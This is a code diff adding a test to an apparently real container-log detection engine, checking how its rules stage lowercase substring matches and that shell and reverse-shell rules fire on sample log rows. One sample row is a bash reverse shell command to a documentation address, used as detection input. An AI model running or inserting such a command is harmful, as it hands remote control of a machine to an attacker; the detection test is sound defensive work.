@@ -50,3 +50,28 @@ def test_staging_rewrites_lower_and_guards_regexes() -> None:
         assert 'lower("message")' not in stage.sql[rule.id]
         if 'regexp_matches("__lower.message"' in stage.sql[rule.id]:
             assert '"__any.message" AND regexp_matches("__lower.message"' in stage.sql[rule.id]
+
+
+def test_lowered_message_is_staged_only_behind_the_prefilter() -> None:
+    """Substring tests join the regex prefilter, so lower(message) is only copied where it passed."""
+    from kubetrail.detect.engine import stage_sql
+    from kubetrail.detect.testing import container_row
+    from kubetrail.schema import from_pylist
+
+    rules = load_rules([Path(__file__).resolve().parents[2] / "rules"])
+    container = [r for r in rules.rules if r.dataset == "container"]
+    stage = stage_sql(container)
+    assert stage.lowered_if_any == ["message"]
+    shell = next(r for r in container if r.name == "container_shell_activity")
+    guarded = '("__any.message" AND contains("__lower.message", \'uid=0(root) gid=0(root)\'))'
+    assert guarded in stage.sql[shell.id]
+    batch = from_pylist(
+        [
+            container_row("UID=0(root) GID=0(root) groups=0(root)"),
+            container_row("GET /healthz 200"),
+            container_row("bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"),
+        ]
+    )
+    hits = {m.rule.name: m.rows.tolist() for m in Engine(rules).evaluate(batch).matches}
+    assert hits["container_shell_activity"] == [0]
+    assert hits["container_reverse_shell"] == [2]
